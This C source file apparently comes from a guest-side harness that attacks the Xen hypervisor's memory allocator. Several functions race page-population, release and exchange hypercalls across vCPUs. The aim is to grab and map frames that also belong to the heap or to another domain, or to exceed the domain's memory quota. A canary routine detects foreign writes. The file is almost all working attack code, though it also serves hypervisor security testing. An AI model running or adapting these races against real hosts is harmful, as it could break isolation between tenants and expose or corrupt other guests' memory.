/* Attacks on the allocator: one vCPU takes blocks while another gives back frames that are just being given out. */
#include "attack.h"

static volatile u64 guess, hits, tries;

static void give_guess(u32 me) {
    static u64 list[MAX_VCPUS];
    while (!stop) {
        list[me] = guess;
        if (!list[me]) continue;
        tries++;
        if (reservation(XENMEM_decrease_reservation, &list[me], 1, 0) == 1) hits++;
    }
}

void attack_race(void) {
    static u64 list[1];
    u64 rounds = option("rounds", 3000), order = option("order", 9), failed = 0;
    print("gave %d\n", memory_give(2048));
    guess = 0;
    for (u32 n = 1; n < vcpus_online; n++) give_job(n, give_guess);
    for (u64 i = 0; i < rounds; i++) {
        list[0] = 0x10000;
        if (reservation(XENMEM_populate_physmap, list, 1, order) != 1) { failed++; continue; }
        guess = list[0];
        reservation(XENMEM_decrease_reservation, list, 1, order);
    }
    stop = 1;
    print("END rounds %u tries %u hits %u failed %u\n", rounds, tries, hits, failed);
}

/*
 * A frame that goes back to the heap while it is being given out must not be both in the domain's list and in the heap's. Otherwise it would be taken
 * again and mapped, and would then belong to somebody else too.
 */
void attack_take(void) {
    static u64 list[1], taken[8];
    u64 order = 9, caught = 0, rounds = option("rounds", 20000), mine = 0, twice = 0, changed = 0;
    print("gave %d\n", memory_give(4096));
    give_job(1, give_guess);
    for (u64 i = 0; i < rounds && !caught; i++) {
        u64 before = hits;
        list[0] = 0x10000;
        if (reservation(XENMEM_populate_physmap, list, 1, order) != 1) continue;
        u64 got = list[0];
        guess = 0;
        for (int k = 0; k < 300; k++) asm volatile("pause");
        if (hits != before && pfn_of(got) == 0x10000) caught = got;
        else reservation(XENMEM_decrease_reservation, list, 1, order);
        guess = got;
    }
    stop = 1;
    for (int i = 0; i < 4 && caught; i++) {
        taken[i] = 0x20000 + i;
        if (reservation(XENMEM_populate_physmap, taken + i, 1, 0) != 1) break;
        if (taken[i] == caught) mine = caught;
        for (int k = 0; k < i; k++) if (taken[k] == taken[i]) { mine = taken[i]; twice++; }
    }
    if (mine) {
        volatile u64 *v = map_frame(mine, 3);
        for (int i = 0; i < 512; i++) v[i] = 0x4141414141414141;
        print("mapped %x\n", mine);
        for (u64 end = now() + option("milliseconds", 500) * 1000000; now() < end && !changed; wait_ms(5)) {
            for (int i = 0; i < 512; i++) if (v[i] != 0x4141414141414141) changed++;
            if (changed) for (int i = 0; i < 512; i++) v[i] = 0x4242424242424242;
        }
    }
    print("END tries %u caught %x mapped %x twice %u changed %u\n", tries, caught, mine, twice, changed);
}

/* Tries to get more memory than the domain may have, by an exchange that fails half way while another vCPU takes all it can get. */
struct exchange { struct memory_reservation in, out; u64 done; };

static void take_all(u32 me) {
    (void)me;
    static u64 list[1];
    while (!stop) {
        list[0] = 0x30000 + tries;
        if (reservation(XENMEM_populate_physmap, list, 1, 0) == 1) tries++;
    }
}
void attack_quota(void) {
    static u64 in[1];
    static struct exchange x;
    u64 rounds = option("rounds", 20000);
    u16 self = DOMID_SELF;
    /* A large extent, because stealing it takes a while. The list for the new extents lies where nothing is mapped, so everything is returned. */
    memory_give(1024);
    in[0] = 0x10000;
    if (reservation(XENMEM_populate_physmap, in, 1, 9) != 1) { print("END no extent\n"); return; }
    give_job(1, take_all);
    s64 most = hypercall(HYPERVISOR_memory_op, 4, (u64)&self, 0, 0), has = 0;
    for (u64 i = 0; i < rounds; i++) {
        x.in = (struct memory_reservation){in, 1, 9, 0, DOMID_SELF};
        x.out = (struct memory_reservation){(u64 *)0x1000, 1, 9, 0, DOMID_SELF};
        x.done = 0;
        hypercall(HYPERVISOR_memory_op, XENMEM_exchange, (u64)&x, 0, 0);
        s64 now_has = hypercall(HYPERVISOR_memory_op, 3, (u64)&self, 0, 0);
        if (now_has > has) has = now_has;
    }
    stop = 1;
    print("END may have %d, had %d, took %u\n", most, has, tries);
}

/* This is no attack: it fills memory with a pattern and checks it again and again. */
void attack_canary(void) {
    u64 first = start_info->nr_pages - option("pages", 1024), changed = 0;
    for (u64 n = first; n < start_info->nr_pages; n++) {
        volatile u64 *v = map_frame(p2m[n], 3);
        for (u64 i = 0; i < 512; i++) v[i] = 0xca9a41e500000000 ^ n << 12 ^ i;
    }
    print("CANARY set\n");
    for (;;) {
        for (u64 n = first; n < start_info->nr_pages; n++) {
            volatile u64 *v = map_frame(p2m[n], 3);
            for (u64 i = 0; i < 512; i++) if (v[i] != (0xca9a41e500000000 ^ n << 12 ^ i)) changed++;
        }
        if (changed) print("CANARY changed in %u words\n", changed);
        else print("CANARY intact\n");
        changed = 0;
        u64 until = now() + 200000000;
        hypercall(HYPERVISOR_set_timer_op, until, 0, 0, 0);
        struct { u64 ports; u32 count; u64 timeout; } p = {0, 0, until};
        hypercall(HYPERVISOR_sched_op, SCHEDOP_poll, (u64)&p, 0, 0);
    }
}
